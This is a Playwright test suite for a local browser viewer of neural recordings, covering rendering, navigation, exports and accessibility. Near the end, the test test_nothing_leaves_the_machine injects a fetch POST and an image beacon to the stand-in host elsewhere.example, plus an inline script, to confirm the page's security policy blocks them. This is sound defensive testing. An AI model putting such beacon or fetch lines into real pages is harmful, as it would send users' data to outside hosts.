"""The viewer's page in a real browser, and its pure functions."""

from __future__ import annotations

import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import signal
from recording_files import spikeglx, walks

from n1codec.datasets import synth
from n1codec.recordings import wav

if not os.environ.get("N1_REQUIRE_ALL"):
    pytest.importorskip("flask")
from n1codec.viewer import opening, overview, server, spikes
from n1codec.viewer.processing import Processing
from n1codec.viewer.session import Session
from n1codec.viewer.sessions import Sessions

CHANNELS, RATE = 60, 19531
RESULTS = Path(__file__).parent.parent / "results"
VIEWS = ("Image", "Spikes", "Spectrum", "Correlation", "Compression", "Ratio and speed", "Signals")
pytestmark = pytest.mark.slow


def served(opened: Session, home: Path) -> Iterator[str]:
    listening = server.listen(server.create(Sessions(opened, home), RESULTS), "127.0.0.1", 0)
    thread = threading.Thread(target=listening.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listening.server_port}/"
    listening.shutdown()
    thread.join()
    listening.server_close()


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Session:
    folder = tmp_path_factory.mktemp("recordings")
    synth.write(folder, CHANNELS, 1.0)
    made = opening.open_paths([folder], tmp_path_factory.mktemp("cache"))
    made.prepare()
    return made


@pytest.fixture(scope="module")
def address(opened: Session, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    yield from served(opened, tmp_path_factory.mktemp("more"))


@pytest.fixture(scope="module")
def probe(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a viewer that shows a probe."""
    home = tmp_path_factory.mktemp("probe")
    places = "".join(f"({n // 4}:{27 + 32 * (n % 2)}:{15 * (n // 2)}:1)" for n in range(8))
    path = spikeglx(home / "run_g0_t0.imec0.ap.bin", walks(30_000, 9), **{"~snsGeomMap": f"(NP2010,4,250,70){places}"})
    yield from served(opening.open_paths([path], home / "cache"), home)


def until(page: Any, expression: str, arg: Any = None) -> None:
    """Wait until an expression is true in the page; the page's own policy forbids Playwright's way to wait for it."""
    deadline = time.monotonic() + 60
    while not page.evaluate(expression, arg):
        assert time.monotonic() < deadline, expression
        page.wait_for_timeout(30)


class Page:
    """A page that remembers what went wrong in it."""

    def __init__(self, browser: Any, address: str, query: str = "", **options: Any) -> None:
        self.page = browser.new_page(**{"viewport": {"width": 1280, "height": 800}} | options)
        self.page.set_default_timeout(60_000)
        self.errors: list[str] = []
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        self.address = address
        self.page.goto(address + query)
        self.settled()

    def settled(self, title: str | None = None) -> None:
        """Wait until the picture is that of the state, and nothing is asked for any more."""
        if title:
            until(self.page, "title => document.getElementById('title').textContent === title", arg=title)
        until(self.page, "Boolean(window.n1 && window.n1.frames > 0 && window.n1.settled)")

    def press(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)
        self.page.wait_for_timeout(200)  # the address follows
        self.settled()

    def ink(self) -> int:
        """Return how many pixels of the signals' canvas are not paper."""
        return int(
            self.page.evaluate(
                """() => {
                  const canvas = document.getElementById("pixels");
                  const data = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data;
                  const words = new Uint32Array(data.buffer);
                  return words.reduce((sum, word) => sum + (word !== words[0]), 0);
                }"""
            )
        )

    def text(self, id: str) -> str:
        return str(self.page.evaluate("id => document.getElementById(id).textContent", id))

    def query(self) -> str:
        return str(self.page.evaluate("window.location.search"))

    def close(self) -> None:
        self.page.close()
        assert not self.errors


# -- pure functions ----------------------------------------------------------------------------------------------------

STATE = """async () => {
  const s = await import("/state.js");
  const session = { channels: 130, frames: 100000 };
  const fit = (text) => s.fit(s.parse(text), session);
  const odd = 'remap|zstd:level=3&"ä';
  const seen = [];
  let now = fit("?last=130");
  for (let i = 0; i < 4; i++) {
    seen.push(s.visible(now, 130));
    now = s.key(now, "]", session);
  }
  return {
    again: s.parse(s.query({ ...s.DEFAULTS, view: "image", first: 3, codec: odd })).codec === odd,
    plain: s.query(s.DEFAULTS),
    refused: s.query(s.parse("?view=x&first=1e3&steps=rm&zzz=1&order=bogus&start=-5.5")),
    wild: ["?start=-5&stop=-9&first=-3&last=999999&focus=-1", "?start=999999999&stop=3", "?first=200"].map((q) => {
      const f = fit(q);
      const [a, b] = s.window_(f, 100000);
      const [c, d] = s.visible(f, 130);
      return a >= 0 && b <= 100000 && b - a >= 16 && c >= 0 && c < d && d <= 130 && f.focus >= -1 && f.focus < 130;
    }),
    seen,
    zoomed: s.window_(s.zoom(fit(""), 0.5, 100000, 0.25), 100000),
    bottom: s.window_(s.zoom(fit(""), 1e-9, 100000), 100000),
    panned: s.window_(s.pan(s.look(fit(""), 90000, 95000, 100000), 5, 100000), 100000),
    short: s.window_(s.fit(s.parse("?start=50"), { channels: 1, frames: 3 }), 3),
    moments: ["12.5", "1:02.5", "1:00:00", "#40", "x", "1:2:3:4", ""].map((text) => s.moment(text, 10)),
    found: ["ap7", "AP12", "3", "zz", ""].map((text) => s.find(text, ["AP1", "AP12", "AP7", "LF"])),
    steps: [s.key(fit(""), "f", session).steps, s.toggled("300-", "cmr"), s.toggled("300-+cmr", "cmr")],
    orders: [session, { ...session, places: [[0, 0]] }].map((one) => [
      s.key(s.DEFAULTS, "r", one).order, s.fit(s.parse("?order=depth"), one).order,
    ]),
  };
}"""


def test_the_state_is_written_read_and_changed(browser: Any, address: str) -> None:
    shown = Page(browser, address)
    got = shown.page.evaluate(STATE)
    assert got["again"] and got["plain"] == "" and got["refused"] == "" and got["wild"] == [True] * 3
    assert got["seen"] == [[0, 48], [48, 96], [82, 130], [82, 130]]
    assert got["zoomed"] == [12500, 62500] and got["bottom"] == [49992, 50008]
    assert got["panned"] == [95000, 100000] and got["short"] == [0, 3]
    assert got["moments"][:4] == [125, 625, 36000, 40] and not any(
        moment == moment and moment for moment in got["moments"][4:]
    )
    assert got["found"] == [2, 1, 3, -1, -1]
    assert got["steps"] == ["300-6000", "300-+cmr", "300-"]
    assert got["orders"] == [["single", ""], ["depth", "depth"]]  # by depth only where places are known
    shown.close()


PIXELS = """async () => {
  const { FrontToBack, Raster, paintOver, rowsOf } = await import("/paint.js");
  const { contrast, DARK, LIGHT } = await import("/theme.js");
  const { nice, number, ticks, clock } = await import("/axes.js");
  const { blockAt, blockOf } = await import("/compression.js");
  const { front, speed } = await import("/results.js");
  const { widthFor, ranges } = await import("/tiles.js");
  const { byDepth } = await import("/probe.js");
  let seed = 1;
  const random = (n) => (seed = (seed * 48271) % 2147483647) % n;
  const [count, height] = [500, 60];
  const lines = Array.from({ length: 12 }, (_, colour) => {
    const low = Int32Array.from({ length: count }, () => random(50));
    const high = low.map((value) => value + random(10));
    const [top, bottom] = [new Int32Array(count), new Int32Array(count)];
    rowsOf(low, high, 0, count, height, 1, 0, height - 1, 1, top, bottom);
    return { top, bottom, colour: colour + 1 };
  });
  const [painter, quick] = [new Raster(count, height, 0), new Raster(count, height, 0)];
  for (const { top, bottom, colour } of lines) paintOver(painter, 0, count, top, bottom, colour);
  const target = new FrontToBack(quick, 0, count);
  for (const { top, bottom, colour } of lines.slice().reverse()) target.paint(top, bottom, colour);
  const paper = { LIGHT: [255, 255, 255], DARK: [20, 26, 35] };
  const colours = new Set();
  let least = 99;
  for (let channel = 0; channel < 400; channel++) {
    colours.add(LIGHT.channelText(channel));
    least = Math.min(least, contrast(LIGHT.channel(channel), paper.LIGHT), contrast(DARK.channel(channel), paper.DARK));
  }
  return {
    unequal: painter.pixels.filter((value, i) => value !== quick.pixels[i]).length,
    joined: lines.every(({ top, bottom }) =>
      top.slice(1).every((y, i) => y <= bottom[i] + 1 && bottom[i + 1] >= top[i] - 1)),
    colours: colours.size, least,
    nice: [nice(-865, 7020), nice(0, 0)],
    ticks: ticks(0, 10, 5).values,
    numbers: [number(-5000, 5000), number(10000, 5000), number(1234.5, 0.5), number(-0.0001, 0.1), number(250000, 1)],
    speeds: [-2, -1, 0, 3, 5, -1.5, 0.25].map(speed),
    clock: [clock(3723.5, "hms", 1), clock(59.99, "hms", 1), clock(1.25, "s", 2)],
    blocks: [0, 2, 3].map((index) => blockOf(index, 100, 340)).concat([blockOf(3, 100, 399)]),
    at: [339, 340].map((frame) => blockAt(frame, 100, 340)),
    front: front([{ x: 1, y: 3 }, { x: 2, y: 2 }, { x: 3, y: 1 }, { x: 1.7, y: 1.9 }]),
    depth: [...byDepth([0, 1, 2, 3, 4], [[0, 0], [250, 90], [32, 20], [null, null], [282, 5]])],
    widths: [0.2, 1, 3.9, 4, 100].map(widthFor), ranges: ranges([0, 1, 2, 5, 7, 8]),
  };
}"""


def test_pixels_colours_and_axes(browser: Any, address: str) -> None:
    shown = Page(browser, address)
    got = shown.page.evaluate(PIXELS)
    assert got["unequal"] == 0 and got["joined"]  # front to back is the painter's order, and no line has a gap
    assert got["colours"] > 350 and got["least"] >= 4.5
    assert (
        got["nice"][0] == [-2000, 8000]
        and got["nice"][1] == pytest.approx([-1.2, 1.2])
        and got["ticks"] == [0, 2, 4, 6, 8, 10]
    )
    assert got["numbers"] == ["\N{MINUS SIGN}5,000", "10,000", "1,234.5", "0.0", "0.25M"]
    assert got["speeds"] == ["0.01", "0.1", "1", "1,000", "100,000", "0.032", "1.8"]
    assert got["clock"] == ["01:02:03.5", "00:01:00.0", "1.25"]
    assert got["blocks"] == [[0, 100], [200, 340], None, None] and got["at"] == [2, -1]
    assert got["depth"] == [2, 0, 1, 4, 3]  # shank by shank
    assert got["front"] == [0, 1, 2] and got["widths"] == [1, 1, 2, 4, 64] and got["ranges"] == "0-2,5,7-8"
    shown.close()


# -- the page ----------------------------------------------------------------------------------------------------------


def test_what_would_change_nothing_is_not_shown(browser: Any, address: str) -> None:
    groups = """() => [...document.querySelectorAll("#groups > .group")].filter((made) => !made.hidden)
      .map((made) => made.querySelector("legend").textContent)"""
    many = {"Channels", "Order of channels", "Correlation", "Distance"}
    for query, shown in (
        ("?view=spectrum&spectrum=lines&order=single", many),
        ("?view=spectrum&spectrum=spectrogram&order=single", set()),
        ("?view=spectrum&spectrum=lines", {"Channels", "Order of channels"}),
        ("?view=correlation", {"Channels", "Order of channels", "Correlation"}),
        ("?view=results", set()),
    ):
        page = Page(browser, address, query)
        assert many & set(page.page.evaluate(groups)) == shown, query
        page.close()


def test_every_view_shows_and_a_link_reproduces_it(browser: Any, address: str) -> None:
    shown = Page(browser, address)
    ids = ("title", "range", "note")
    for title in VIEWS:
        shown.page.locator("nav a", has_text=title).click()
        shown.settled(title)
        assert shown.ink() > 1000 or title in ("Spectrum", "Ratio and speed")
        again = Page(browser, address, shown.query())
        again.settled(title)
        assert [again.text(name) for name in ids] == [shown.text(name) for name in ids]
        again.close()
    shown.page.go_back()
    shown.settled("Ratio and speed")  # Back goes back a view
    shown.close()


def test_every_sample_is_drawn_where_it_is(browser: Any, address: str, opened: Session) -> None:
    shown = Page(browser, address, "?stop=64&last=1")
    box = shown.page.locator("#plot").bounding_box()
    assert box
    for frame in (3, 32, 60):
        area = (96, box["width"] - 166)  # the left margin and the width of the area, see signals.js
        shown.page.mouse.move(box["x"] + area[0] + area[1] * frame / 64 + 1, box["y"] + 200)
        shown.page.wait_for_timeout(100)
        name, moment, value = shown.page.locator("#pointer").inner_text().splitlines()
        assert name.startswith("0 ") and f"sample {frame}" in moment
        # The pixel holds the sample, and a little of the line to the next one.
        numbers = [int(word) for word in value.translate({0x2212: "-", 44: ""}).split() if word.lstrip("-").isdigit()]
        expected = opened.signals[0, frame : frame + 2].astype(int)
        assert min(abs(number - expected[0]) for number in numbers) <= 1 + abs(np.diff(expected)[0]) / 8
    shown.close()


def test_keys_mouse_and_wheel(browser: Any, address: str) -> None:
    shown = Page(browser, address)
    box = shown.page.locator("#plot").bounding_box()
    assert box
    middle = (box["x"] + box["width"] / 2, box["y"] + 200)
    shown.page.mouse.move(*middle)
    shown.page.mouse.wheel(0, -240)
    shown.press("+", "+")
    start, stop = (
        int(shown.page.evaluate(f"new URLSearchParams(location.search).get('{n}')")) for n in ("start", "stop")
    )
    assert 1000 < stop - start < 6000
    shown.page.mouse.down()
    shown.page.mouse.move(middle[0] - 300, middle[1], steps=8)
    shown.page.mouse.up()
    shown.press("d", "d")
    moved = int(shown.page.evaluate("new URLSearchParams(location.search).get('start')"))
    assert moved > start
    shown.page.keyboard.down("Shift")  # it draws a range
    shown.page.mouse.move(box["x"] + 300, middle[1])
    shown.page.mouse.down()
    shown.page.mouse.move(box["x"] + 500, middle[1], steps=5)
    shown.page.mouse.up()
    shown.page.keyboard.up("Shift")
    shown.press("o", "y", "a", "t")
    query = shown.query()
    for part in ("mode=overlaid", "scale=own", "gain=1", "clock=hms"):
        assert part in query
    low, high = (
        int(shown.page.evaluate(f"new URLSearchParams(location.search).get('{n}')")) for n in ("start", "stop")
    )
    assert moved < low < high and high - low < (stop - start) / 2
    shown.press("0")
    assert "start" not in shown.query()
    shown.page.mouse.click(*middle)
    shown.press("2")
    assert "cursor=" in shown.query() and "view=image" in shown.query()
    shown.press("Escape")
    assert "cursor" not in shown.query()
    shown.close()


def test_no_key_is_lost(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?mode=overlaid&last=60&look=lines")
    for _ in range(4):
        shown.page.keyboard.press("+")
    before = shown.page.evaluate("window.n1.keys")
    for index in range(40):
        began = time.monotonic()
        shown.page.keyboard.press("ArrowRight" if index % 3 else "ArrowLeft")
        time.sleep(max(0.0, 0.05 - (time.monotonic() - began)))
    shown.press()
    assert shown.page.evaluate("window.n1.keys") - before == 40
    shown.close()


def test_exact_entry_and_finding(browser: Any, address: str) -> None:
    shown = Page(browser, address)

    def enter(label: str, text: str) -> Any:
        field = shown.page.get_by_label(label, exact=True)
        field.fill(text)
        field.press("Enter")
        shown.page.wait_for_timeout(250)
        shown.settled()
        return field

    enter("First moment shown", "#1000")
    assert "start=1000" in shown.query() and "samples 1,000 to 19,531" in shown.text("range")
    field = enter("Moment behind the last one shown", "nonsense")
    assert field.get_attribute("aria-invalid") == "true" and "stop=19531" in shown.query()
    field.press("Escape")
    enter("Go to a moment", "0.5")
    assert "cursor=9766" in shown.query()
    enter("Find a channel by number or name", "synth_41")
    assert "focus=41" in shown.query() and "first=37" in shown.query()
    shown.press("2", "g")  # Enter gave the keys back to the plot
    shown.page.keyboard.type("0.25")
    shown.press("Enter", "/")
    shown.page.keyboard.type("synth_3")
    shown.press("Enter")
    assert all(part in shown.query() for part in ("view=image", "cursor=4883", "focus=3"))
    shown.close()


def test_reorder_and_click_a_cell(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?view=correlation&order=ward")
    box = shown.page.locator("#plot").bounding_box()
    assert box
    shown.page.mouse.move(box["x"] + 350, box["y"] + 200)
    shown.page.wait_for_timeout(100)
    one, other, r = shown.page.locator("#pointer").inner_text().splitlines()
    assert r.startswith("r = ") and one != other
    shown.page.mouse.down()
    shown.page.mouse.up()
    shown.press()
    assert f"focus={one.split()[0]}" in shown.query() + "focus=0" and f"other={other.split()[0]}" in shown.query()
    shown.close()


def test_files_that_are_dropped(browser: Any, address: str, tmp_path: Path) -> None:
    shown = Page(browser, address)
    whole = wav.write(signal(5000, 3), 8000)
    for name, data in (("mine.wav", whole), ("cut.wav", whole[:-900]), ("broken.wav", b"RIFF and nothing else")):
        (tmp_path / name).write_bytes(data)
    files = shown.page.locator("#files")
    files.set_input_files(tmp_path / "broken.wav")
    until(shown.page, "document.getElementById('trouble').textContent.includes('broken.wav')")
    shown.errors.clear()  # the browser tells of the answer 400
    files.set_input_files([tmp_path / name for name in ("broken.wav", "cut.wav", "mine.wav")])
    until(shown.page, "document.getElementById('about').textContent.includes('6 channels')")
    shown.press()
    assert "2 notes on the files" in shown.text("about") and shown.text("trouble") == ""
    again = Page(browser, address, shown.query())
    assert again.text("range") == shown.text("range")
    again.close()
    shown.close()


def test_export(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?stop=100&last=2")
    for kind, begin in (("png", b"\x89PNG"), ("svg", b"<svg"), ("csv", b"sample,")):
        with shown.page.expect_download() as waiting:
            shown.page.locator(f"#{kind}").click()
        data = Path(waiting.value.path()).read_bytes()
        assert data.startswith(begin) and waiting.value.suggested_filename.endswith(f"-signals.{kind}")
        if kind == "svg":
            assert b"Time (s)" in data and b": Signals" in data
    shown.close()


INK = """([top, bottom]) => {
  const canvas = document.getElementById("pixels");
  const [from, to] = [top, bottom].map((y) => Math.round(y));
  const data = canvas.getContext("2d").getImageData(120, from, 400, to - from).data;
  const words = new Uint32Array(data.buffer);
  return words.reduce((sum, word) => sum + (word !== words[0]), 0);
}"""


def test_two_codecs_are_drawn_beside_each_other(browser: Any, address: str) -> None:
    """Under the original each has its own line, on one scale; a line of no difference is as thick as itself."""
    query = "?view=compression&codec=round:error%3D99|lpc|rans&against=zstd:level%3D3&line=difference"
    shown = Page(browser, address, query)
    height = shown.page.locator("#plot").bounding_box()["height"]  # type: ignore[index]
    top = 24 + (height - 74) * 0.34 + 26  # see compression.js
    each = (height - 46 - top - 3 * 8) / 4
    inks = [shown.page.evaluate(INK, [top + i * (each + 8) + 22, top + i * (each + 8) + each]) for i in range(4)]
    assert inks[0] > 2000 and inks[1] > 4 * inks[2] > 0
    texts = []
    box = shown.page.locator("#plot").bounding_box()
    for i in range(3):
        shown.page.mouse.move(box["x"] + 300, box["y"] + top + i * (each + 8) + each / 2)  # type: ignore[index]
        shown.page.wait_for_timeout(100)
        texts.append(shown.page.locator("#pointer").inner_text().splitlines())
    assert texts[2][2] == "0 codes" and texts[1][2] not in ("0 codes", texts[0][2])
    assert all(lines[-1].endswith("bits per sample of zstd:level=3") for lines in texts)
    shown.close()


def test_spikes_begin_at_the_channel_with_the_most(browser: Any, address: str, opened: Session) -> None:
    job = spikes.detect(opened, 4.5, Processing())
    job.wait()
    frames, channels = job.result.frames, job.result.channels
    for query, start, stop in (("", 0, opened.frames), ("&start=2000&stop=9000", 2000, 9000)):
        seen = np.bincount(channels[(frames >= start) & (frames < stop)], minlength=opened.channels)
        assert seen.max() > 0
        shown = Page(browser, address, "?view=spikes" + query)
        shown.press()
        assert f"focus={seen.argmax()}" in shown.query()
        shown.close()
    shown = Page(browser, address, "?view=spikes&focus=0")
    assert "focus=0" in shown.query()
    shown.close()


def test_a_probe_has_a_map_microvolts_and_switches(browser: Any, probe: str) -> None:
    shown = Page(browser, probe, "?order=depth")
    box = shown.page.locator(".probe").bounding_box()
    assert box
    shown.page.locator(".probe").click(position={"x": box["width"] - 74, "y": 10})
    shown.press()
    assert "focus=7" in shown.query()
    for name in ("Band-pass filter", "Common median reference", "Whitening"):
        button = shown.page.get_by_role("button", name=name)
        assert button.get_attribute("aria-pressed") == "false"
        button.click()
        shown.press()
        assert button.get_attribute("aria-pressed") == "true"
    assert shown.text("chips") == "300 to 6000 Hzcommon median referencewhitened"
    shown.page.get_by_label("Table of the channels shown").click()
    table = shown.page.locator("#table-body").inner_text()
    assert "sd" in table
    shown.close()


def test_the_overview_of_a_large_recording_fills_in_and_says_so(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(opening, "MOST_COPIED", 1000)
    monkeypatch.setattr(opening, "_PADDED_FREELY", 1000)
    monkeypatch.setattr(overview, "_STRETCH_BYTES", 1 << 17)
    go_on = threading.Event()
    add = overview.Overview._add

    def wait(self: overview.Overview, file: Any, stop: int) -> None:
        add(self, file, stop)
        if self.share > 0.4:
            assert go_on.wait(60)

    monkeypatch.setattr(overview.Overview, "_add", wait)
    path = spikeglx(tmp_path / "run_g0_t0.imec0.ap.bin", np.tile(signal(40_000, 5), (20, 1)))
    for address in served(opening.open_paths([path], tmp_path / "cache"), tmp_path):
        shown = Page(browser, address)
        sampled = "Overview from the first 64 of each 512 frames: zoom in for all samples."
        assert shown.text("note").startswith(sampled)
        assert "not copied" in shown.text("about")
        until(
            shown.page,
            "document.getElementById('note').textContent.endsWith('is read so far, and shown with all samples.')",
        )
        before = shown.page.locator("#pixels").screenshot()
        go_on.set()
        until(shown.page, "document.getElementById('note').textContent === 'Overview of all samples.'")
        shown.settled()
        assert shown.page.locator("#pixels").screenshot() != before
        shown.press("+", "+", "+", "+", "+")
        assert shown.text("note") == ""
        shown.press("0", "f")
        until(shown.page, "document.getElementById('note').textContent === 'Overview of all samples.'")
        assert "300 to 6000 Hz" in shown.text("chips")
        shown.close()


@pytest.mark.parametrize("width, height", [(390, 844), (820, 1180), (900, 700), (2560, 1440)])
def test_windows_of_all_sizes(browser: Any, address: str, width: int, height: int) -> None:
    shown = Page(browser, address, viewport={"width": width, "height": height}, has_touch=width < 900)
    narrow = width <= 760
    assert shown.page.locator("#side").is_visible() is not narrow
    for title in ("Image", "Correlation", "Compression"):
        if narrow:
            shown.page.locator("#menu").click()
        shown.page.locator("nav a", has_text=title).click()
        shown.settled(title)
        assert shown.page.evaluate("document.documentElement.scrollWidth") <= width
    shown.close()


def test_light_dark_and_labels(browser: Any, address: str) -> None:
    shown = Page(browser, address, color_scheme="dark")
    paper = "getComputedStyle(document.body).backgroundColor"
    assert shown.page.evaluate(paper) == "rgb(20, 26, 35)"
    shown.press("d")
    assert shown.page.evaluate(paper) == "rgb(255, 255, 255)"
    unnamed = shown.page.evaluate(
        """() => [...document.querySelectorAll("button, input, select, a[href]")].filter((one) => {
          const label = one.getAttribute("aria-label") || one.textContent.trim() || (one.labels && one.labels.length);
          return !label && one.type !== "hidden";
        }).map((one) => one.outerHTML)"""
    )
    assert unnamed == [] and shown.page.evaluate("document.documentElement.lang") == "en"
    shown.page.keyboard.press("Tab")
    assert shown.page.evaluate("document.activeElement.className") == "skip"
    shown.close()


def test_an_error_is_told_on_the_page(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?view=compression&codec=zzstd")
    assert "unknown codec" in shown.text("note")
    shown.errors.clear()  # the browser tells of the answer 400
    shown.close()


def test_the_page_goes_on_when_the_viewer_is_back(browser: Any, opened: Session, tmp_path: Path) -> None:
    def listen(port: int) -> Any:
        made = server.listen(server.create(Sessions(opened, tmp_path), RESULTS), "127.0.0.1", port)
        threading.Thread(target=made.serve_forever, daemon=True).start()
        return made

    listening = listen(0)
    port = listening.server_port
    shown = Page(browser, f"http://127.0.0.1:{port}/")
    listening.shutdown()
    listening.server_close()
    shown.press(*"+++++", "ArrowRight")
    assert shown.text("note") == "The viewer does not answer: it may have been stopped where it was started."
    assert shown.ink() > 1000  # what is there stands in
    shown.press("4")
    assert shown.text("note").count("does not answer") == 1
    listening = listen(port)
    until(shown.page, "document.getElementById('note').textContent === ''")
    shown.press("1")
    until(shown.page, "document.getElementById('note').textContent === ''")
    shown.errors.clear()  # the browser tells of what was not answered
    shown.close()
    listening.shutdown()
    listening.server_close()


def test_nothing_leaves_the_machine(browser: Any, address: str) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    elsewhere: list[str] = []

    def watch(route: Any) -> None:
        if route.request.url.startswith((address, "data:", "blob:")):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    context.route("**/*", watch)
    page = context.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
    page.goto(address)
    for key in "1234567":
        until(page, "Boolean(window.n1 && window.n1.frames)")
        page.keyboard.press(key)
        page.wait_for_timeout(300)
    assert elsewhere == [] and refused == []
    tried = page.evaluate(
        """() => Promise.allSettled([
             fetch("https://elsewhere.example/", {method: "POST", body: "samples", mode: "no-cors"}),
             new Promise((good, bad) => {
               const image = new Image();
               image.onload = good;
               image.onerror = bad;
               image.src = "https://elsewhere.example/?samples";
             }),
             new Promise((good, bad) => {
               const script = document.createElement("script");
               script.textContent = "window.ran = true";
               document.body.append(script);
               window.ran ? good() : bad();
             }),
           ]).then((all) => all.map((one) => one.status))"""
    )
    assert tried == ["rejected"] * 3 and elsewhere == []
    assert sum("Content Security Policy" in text for text in refused) >= 3
    context.close()


@pytest.mark.parametrize("width", [390, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nobody_is_kept_out(browser: Any, barriers: Any, probe: str, width: int, scheme: str) -> None:
    shown = Page(browser, probe, viewport={"width": width, "height": 844}, color_scheme=scheme)
    for key in ("1", "2", "3", "4", "5", "6", "7", "?"):
        shown.press(key)
        assert barriers(shown.page) == [], key
    shown.close()
